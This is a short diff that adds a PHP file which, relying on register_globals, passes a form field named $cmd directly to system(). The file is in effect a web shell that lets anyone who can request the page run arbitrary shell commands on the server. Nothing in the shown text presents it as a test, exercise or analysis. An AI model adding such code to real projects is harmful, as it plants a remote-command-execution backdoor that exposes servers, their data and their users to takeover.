@@ -1,0 +1,5 @@
+<?php
+// written for register_globals: $cmd is a form field
+if ($cmd != "") {
+    system($cmd);
+}
